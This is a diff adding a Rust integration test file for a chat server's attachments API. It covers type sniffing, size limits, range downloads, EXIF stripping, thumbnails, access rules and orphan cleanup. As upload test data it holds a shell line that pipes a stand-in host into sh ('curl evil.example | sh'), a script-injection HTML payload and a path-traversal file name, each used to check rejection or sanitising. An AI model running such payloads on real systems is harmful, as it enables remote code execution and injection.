@@ -1,0 +1,487 @@
+//! Attachments: streamed upload with sniffed types and a size limit, downloads with ranges,
+//! image clean-up and thumbnails, who may read a file, and the removal of unsent uploads.
+
+use std::io::Cursor;
+use std::time::Duration;
+
+use reqwest::{Response, StatusCode};
+use serde_json::{Value, json};
+use sha2::{Digest, Sha256};
+
+use crate::helpers::{ResponseExt, TestApp, TestUser, spawn_app, spawn_app_with};
+
+const BOUNDARY: &str = "chat-test-boundary-7d3f";
+
+/// A multipart body with one field `name` holding `bytes` as file `file_name`.
+fn form(name: &str, file_name: &str, claimed_type: &str, bytes: &[u8]) -> Vec<u8> {
+    let mut body = format!(
+        "--{BOUNDARY}\r\ncontent-disposition: form-data; name=\"{name}\"; filename=\"{file_name}\"\r\ncontent-type: {claimed_type}\r\n\r\n"
+    )
+    .into_bytes();
+    body.extend_from_slice(bytes);
+    body.extend_from_slice(format!("\r\n--{BOUNDARY}--\r\n").as_bytes());
+    body
+}
+
+async fn post_form(app: &TestApp, user: &TestUser, body: Vec<u8>) -> Response {
+    app.client
+        .post(app.url("/api/v1/attachments"))
+        .bearer_auth(&user.access_token)
+        .header(
+            "content-type",
+            format!("multipart/form-data; boundary={BOUNDARY}"),
+        )
+        .body(body)
+        .send()
+        .await
+        .expect("request sent")
+}
+
+async fn upload(app: &TestApp, user: &TestUser, file_name: &str, bytes: &[u8]) -> Value {
+    let response = post_form(
+        app,
+        user,
+        form("file", file_name, "application/octet-stream", bytes),
+    )
+    .await;
+    assert_eq!(
+        response.status(),
+        StatusCode::CREATED,
+        "uploading {file_name}"
+    );
+    response.json().await.expect("json body")
+}
+
+async fn download(app: &TestApp, user: &TestUser, path: &str) -> Response {
+    app.get(path, Some(&user.access_token)).await
+}
+
+fn pdf(len: usize) -> Vec<u8> {
+    let mut bytes = b"%PDF-1.7\n".to_vec();
+    bytes.extend((0..len).map(|i| (i * 31 % 251) as u8));
+    bytes
+}
+
+fn sha256(bytes: &[u8]) -> String {
+    Sha256::digest(bytes)
+        .iter()
+        .map(|b| format!("{b:02x}"))
+        .collect()
+}
+
+/// A 640×480 JPEG carrying an EXIF segment with a GPS marker in it.
+fn jpeg_with_exif() -> Vec<u8> {
+    let image = image::RgbImage::from_fn(640, 480, |x, y| {
+        image::Rgb([(x % 256) as u8, (y % 256) as u8, 128])
+    });
+    let mut plain = Vec::new();
+    image
+        .write_to(&mut Cursor::new(&mut plain), image::ImageFormat::Jpeg)
+        .expect("jpeg");
+    let mut exif = b"Exif\0\0MM\0*\0\0\0\x08GPSLatitude=52.5200;SECRET-LOCATION".to_vec();
+    exif.resize(exif.len() + 16, 0);
+    let length = u16::try_from(exif.len() + 2).expect("segment size");
+    let mut with_exif = plain[..2].to_vec();
+    with_exif.extend_from_slice(&[0xFF, 0xE1]);
+    with_exif.extend_from_slice(&length.to_be_bytes());
+    with_exif.extend_from_slice(&exif);
+    with_exif.extend_from_slice(&plain[2..]);
+    with_exif
+}
+
+fn contains(haystack: &[u8], needle: &[u8]) -> bool {
+    haystack.windows(needle.len()).any(|w| w == needle)
+}
+
+#[tokio::test]
+async fn an_upload_comes_back_byte_for_byte_and_in_ranges() {
+    let app = spawn_app().await;
+    let alice = app.register("alice").await;
+    let bytes = pdf(300_000);
+
+    let stored = upload(&app, &alice, "../../Report: Q4*.pdf", &bytes).await;
+    assert_eq!(stored["content_type"], "application/pdf");
+    assert_eq!(stored["size"], bytes.len());
+    assert_eq!(stored["sha256"], sha256(&bytes));
+    assert_eq!(
+        stored["file_name"], "Report Q4.pdf",
+        "path and quotes removed"
+    );
+    assert_eq!(stored["has_thumbnail"], false);
+    let path = format!("/api/v1/attachments/{}", stored["id"].as_str().expect("id"));
+
+    let response = download(&app, &alice, &path).await;
+    assert_eq!(response.status(), StatusCode::OK);
+    let headers = response.headers().clone();
+    assert_eq!(headers["content-type"], "application/pdf");
+    assert_eq!(headers["accept-ranges"], "bytes");
+    let disposition = headers["content-disposition"].to_str().expect("ascii");
+    assert!(
+        disposition.starts_with("attachment;") && disposition.contains("Report Q4.pdf"),
+        "{disposition}"
+    );
+    let body = response.bytes().await.expect("body");
+    assert_eq!(sha256(&body), sha256(&bytes));
+
+    for (range, slice, total) in [
+        ("bytes=10-19", &bytes[10..20], "bytes 10-19"),
+        ("bytes=-5", &bytes[bytes.len() - 5..], "bytes 300004-300008"),
+    ] {
+        let response = app
+            .client
+            .get(app.url(&path))
+            .bearer_auth(&alice.access_token)
+            .header("range", range)
+            .send()
+            .await
+            .expect("request sent");
+        assert_eq!(response.status(), StatusCode::PARTIAL_CONTENT, "{range}");
+        let content_range = response.headers()["content-range"]
+            .to_str()
+            .expect("ascii")
+            .to_owned();
+        assert_eq!(content_range, format!("{total}/{}", bytes.len()));
+        assert_eq!(&response.bytes().await.expect("body")[..], slice);
+    }
+    let response = app
+        .client
+        .get(app.url(&path))
+        .bearer_auth(&alice.access_token)
+        .header("range", "bytes=999999999-")
+        .send()
+        .await
+        .expect("request sent");
+    assert_eq!(response.status(), StatusCode::RANGE_NOT_SATISFIABLE);
+    assert_eq!(
+        response.headers()["content-range"],
+        format!("bytes */{}", bytes.len()).as_str()
+    );
+    assert_eq!(response.problem().await.code, "range_not_satisfiable");
+}
+
+fn stored_files(app: &TestApp) -> usize {
+    fn count(dir: &std::path::Path) -> usize {
+        std::fs::read_dir(dir).map_or(0, |entries| {
+            entries
+                .flatten()
+                .map(|e| {
+                    if e.path().is_dir() {
+                        count(&e.path())
+                    } else {
+                        1
+                    }
+                })
+                .sum()
+        })
+    }
+    count(&app.settings.attachments_dir())
+}
+
+#[tokio::test]
+async fn files_over_the_limit_are_refused_and_leave_nothing_behind() {
+    const LIMIT: usize = 16 * 1024;
+    let app = spawn_app_with(|s| s.attachments.max_bytes = LIMIT as u64).await;
+    let alice = app.register("alice").await;
+
+    for bytes in [pdf(200_000), jpeg_with_exif()] {
+        assert!(bytes.len() > LIMIT);
+        let response =
+            post_form(&app, &alice, form("file", "big", "application/pdf", &bytes)).await;
+        assert_eq!(response.status(), StatusCode::PAYLOAD_TOO_LARGE);
+        assert_eq!(response.problem().await.code, "too_large");
+    }
+    assert_eq!(stored_files(&app), 0);
+    upload(&app, &alice, "small.pdf", &pdf(1000)).await;
+    assert_eq!(stored_files(&app), 1);
+}
+
+#[tokio::test]
+async fn the_type_comes_from_the_bytes_never_the_name_or_the_claim() {
+    let app = spawn_app().await;
+    let alice = app.register("alice").await;
+    let cases: [(&str, &[u8]); 3] = [
+        ("cute-cat.png", b"#!/bin/sh\ncurl evil.example | sh\n"),
+        ("page.png", b"<html><script>alert(1)</script></html>"),
+        (
+            "fake.png",
+            b"\x89PNG\r\n\x1a\n but no image after the signature",
+        ),
+    ];
+    for (name, bytes) in cases {
+        let response = post_form(&app, &alice, form("file", name, "image/png", bytes)).await;
+        assert_eq!(
+            response.status(),
+            StatusCode::UNSUPPORTED_MEDIA_TYPE,
+            "{name}"
+        );
+        assert_eq!(response.problem().await.code, "unsupported_media_type");
+    }
+    assert_eq!(stored_files(&app), 0);
+    // A real PDF claimed to be a PNG is stored as what it is.
+    let stored = upload(&app, &alice, "doc.png", &pdf(100)).await;
+    assert_eq!(stored["content_type"], "application/pdf");
+}
+
+#[tokio::test]
+async fn images_lose_their_metadata_and_get_a_thumbnail() {
+    let app = spawn_app().await;
+    let alice = app.register("alice").await;
+    let original = jpeg_with_exif();
+    assert!(contains(&original, b"SECRET-LOCATION"));
+
+    let stored = upload(&app, &alice, "holiday.jpg", &original).await;
+    assert_eq!(stored["content_type"], "image/jpeg");
+    assert_eq!(
+        (stored["width"].clone(), stored["height"].clone()),
+        (json!(640), json!(480))
+    );
+    assert_eq!(stored["has_thumbnail"], true);
+    let id = stored["id"].as_str().expect("id");
+
+    let response = download(&app, &alice, &format!("/api/v1/attachments/{id}")).await;
+    assert_eq!(response.status(), StatusCode::OK);
+    assert!(
+        response.headers()["content-disposition"]
+            .to_str()
+            .expect("ascii")
+            .starts_with("inline;")
+    );
+    let body = response.bytes().await.expect("body");
+    assert!(
+        !contains(&body, b"SECRET-LOCATION") && !contains(&body, b"Exif"),
+        "EXIF removed"
+    );
+    assert_eq!(sha256(&body), stored["sha256"]);
+    let decoded = image::load_from_memory(&body).expect("still a JPEG");
+    assert_eq!((decoded.width(), decoded.height()), (640, 480));
+
+    let response = download(&app, &alice, &format!("/api/v1/attachments/{id}/thumbnail")).await;
+    assert_eq!(response.status(), StatusCode::OK);
+    assert_eq!(response.headers()["content-type"], "image/jpeg");
+    let thumbnail = image::load_from_memory(&response.bytes().await.expect("body")).expect("jpeg");
+    assert_eq!((thumbnail.width(), thumbnail.height()), (320, 240));
+
+    let pdf = upload(&app, &alice, "a.pdf", &pdf(10)).await;
+    let response = download(
+        &app,
+        &alice,
+        &format!(
+            "/api/v1/attachments/{}/thumbnail",
+            pdf["id"].as_str().expect("id")
+        ),
+    )
+    .await;
+    assert_eq!(response.status(), StatusCode::NOT_FOUND);
+    assert_eq!(response.problem().await.code, "thumbnail_not_found");
+}
+
+#[tokio::test]
+async fn a_file_is_its_uploaders_until_sent_then_the_conversations() {
+    let app = spawn_app().await;
+    let alice = app.register("alice").await;
+    let carol = app.register("carol").await;
+    let bob = app.register("bob").await;
+    let group = app.create_group(&alice, "g", &[&carol]).await;
+    let bobs = app.create_group(&bob, "b", &[&alice]).await;
+    let stored = upload(&app, &alice, "cat.jpg", &jpeg_with_exif()).await;
+    let id = stored["id"].as_str().expect("id").to_owned();
+    let file = format!("/api/v1/attachments/{id}");
+    let thumbnail = format!("{file}/thumbnail");
+
+    for path in [&file, &thumbnail] {
+        let response = download(&app, &carol, path).await;
+        assert_eq!(
+            response.status(),
+            StatusCode::NOT_FOUND,
+            "not sent yet: {path}"
+        );
+        assert_eq!(response.problem().await.code, "attachment_not_found");
+    }
+    // Nobody sends someone else's upload.
+    let response = app
+        .post_json(
+            &format!("/api/v1/conversations/{bobs}/messages"),
+            &json!({"content": "mine now", "attachment_ids": [id]}),
+            Some(&bob.access_token),
+        )
+        .await;
+    assert_eq!(response.status(), StatusCode::UNPROCESSABLE_ENTITY);
+    assert_eq!(response.problem().await.fields, ["attachment_ids"]);
+
+    let response = app
+        .post_json(
+            &format!("/api/v1/conversations/{group}/messages"),
+            &json!({"content": "look", "attachment_ids": [id]}),
+            Some(&alice.access_token),
+        )
+        .await;
+    assert_eq!(response.status(), StatusCode::CREATED);
+    let message: Value = response.json().await.expect("json");
+    assert_eq!(message["attachment_ids"], json!([id]));
+    let history = app
+        .get_ok(
+            &format!("/api/v1/conversations/{group}/messages"),
+            &carol.access_token,
+        )
+        .await;
+    assert_eq!(history["messages"][0]["attachment_ids"], json!([id]));
+
+    for path in [&file, &thumbnail] {
+        assert_eq!(
+            download(&app, &carol, path).await.status(),
+            StatusCode::OK,
+            "{path}"
+        );
+        assert_eq!(
+            download(&app, &alice, path).await.status(),
+            StatusCode::OK,
+            "{path}"
+        );
+        let response = download(&app, &bob, path).await;
+        assert_eq!(response.status(), StatusCode::NOT_FOUND, "outsider: {path}");
+    }
+    // A file goes out with one message only.
+    let response = app
+        .post_json(
+            &format!("/api/v1/conversations/{bobs}/messages"),
+            &json!({"content": "again", "attachment_ids": [id]}),
+            Some(&alice.access_token),
+        )
+        .await;
+    assert_eq!(response.status(), StatusCode::UNPROCESSABLE_ENTITY);
+    assert_eq!(
+        download(&app, &bob, &file).await.status(),
+        StatusCode::NOT_FOUND
+    );
+    let bobs_history = app
+        .get_ok(
+            &format!("/api/v1/conversations/{bobs}/messages"),
+            &bob.access_token,
+        )
+        .await;
+    assert_eq!(
+        bobs_history["messages"].as_array().map(Vec::len),
+        Some(0),
+        "nothing half-sent"
+    );
+}
+
+#[tokio::test]
+async fn bad_uploads_and_downloads_get_problems() {
+    let app = spawn_app().await;
+    let alice = app.register("alice").await;
+
+    let response = post_form(
+        &app,
+        &alice,
+        form("picture", "a.pdf", "application/pdf", &pdf(10)),
+    )
+    .await;
+    assert_eq!(response.status(), StatusCode::UNPROCESSABLE_ENTITY);
+    assert_eq!(response.problem().await.fields, ["file"]);
+    let response = post_form(
+        &app,
+        &alice,
+        form("file", "empty.pdf", "application/pdf", b""),
+    )
+    .await;
+    assert_eq!(response.status(), StatusCode::UNPROCESSABLE_ENTITY);
+    assert_eq!(response.problem().await.fields, ["file"]);
+    let response = app
+        .post_json(
+            "/api/v1/attachments",
+            &json!({"file": "aGk="}),
+            Some(&alice.access_token),
+        )
+        .await;
+    assert_eq!(response.status(), StatusCode::UNSUPPORTED_MEDIA_TYPE);
+    response.problem().await;
+    let response = app
+        .client
+        .post(app.url("/api/v1/attachments"))
+        .bearer_auth(&alice.access_token)
+        .header(
+            "content-type",
+            format!("multipart/form-data; boundary={BOUNDARY}"),
+        )
+        .body(format!(
+            "--{BOUNDARY}\r\ncontent-disposition: form-data; name=\"file\"\r\n\r\nunterminated"
+        ))
+        .send()
+        .await
+        .expect("request sent");
+    assert!(response.status().is_client_error(), "{}", response.status());
+    response.problem().await;
+    let response = app
+        .client
+        .post(app.url("/api/v1/attachments"))
+        .header(
+            "content-type",
+            format!("multipart/form-data; boundary={BOUNDARY}"),
+        )
+        .body(form("file", "a.pdf", "application/pdf", &pdf(10)))
+        .send()
+        .await
+        .expect("request sent");
+    assert_eq!(response.status(), StatusCode::UNAUTHORIZED);
+    assert_eq!(stored_files(&app), 0);
+
+    let unknown = format!("/api/v1/attachments/{}", uuid::Uuid::now_v7());
+    let response = download(&app, &alice, &unknown).await;
+    assert_eq!(response.status(), StatusCode::NOT_FOUND);
+    response.problem().await;
+    let response = download(&app, &alice, "/api/v1/attachments/not-a-uuid").await;
+    assert_eq!(response.status(), StatusCode::BAD_REQUEST);
+    response.problem().await;
+    let response = app.get(&unknown, None).await;
+    assert_eq!(response.status(), StatusCode::UNAUTHORIZED);
+}
+
+#[tokio::test]
+async fn uploads_never_sent_are_removed_and_sent_ones_kept() {
+    let app = spawn_app_with(|s| {
+        s.attachments.orphan_ttl_secs = 2;
+        s.attachments.cleanup_interval_secs = 1;
+    })
+    .await;
+    let alice = app.register("alice").await;
+    let bob = app.register("bob").await;
+    let group = app.create_group(&alice, "g", &[&bob]).await;
+    let unsent = upload(&app, &alice, "draft.pdf", &pdf(100)).await;
+    let sent = upload(&app, &alice, "final.jpg", &jpeg_with_exif()).await;
+    let response = app
+        .post_json(
+            &format!("/api/v1/conversations/{group}/messages"),
+            &json!({"content": "final", "attachment_ids": [sent["id"]]}),
+            Some(&alice.access_token),
+        )
+        .await;
+    assert_eq!(response.status(), StatusCode::CREATED);
+
+    let unsent_path = format!("/api/v1/attachments/{}", unsent["id"].as_str().expect("id"));
+    let mut removed = false;
+    for _ in 0..100 {
+        if download(&app, &alice, &unsent_path).await.status() == StatusCode::NOT_FOUND {
+            removed = true;
+            break;
+        }
+        tokio::time::sleep(Duration::from_millis(100)).await;
+    }
+    assert!(removed, "the unsent upload was never removed");
+    let sent_path = format!("/api/v1/attachments/{}", sent["id"].as_str().expect("id"));
+    assert_eq!(
+        download(&app, &bob, &sent_path).await.status(),
+        StatusCode::OK
+    );
+    assert_eq!(
+        download(&app, &bob, &format!("{sent_path}/thumbnail"))
+            .await
+            .status(),
+        StatusCode::OK
+    );
+    assert_eq!(
+        stored_files(&app),
+        2,
+        "the sent file and its thumbnail, nothing else"
+    );
+}
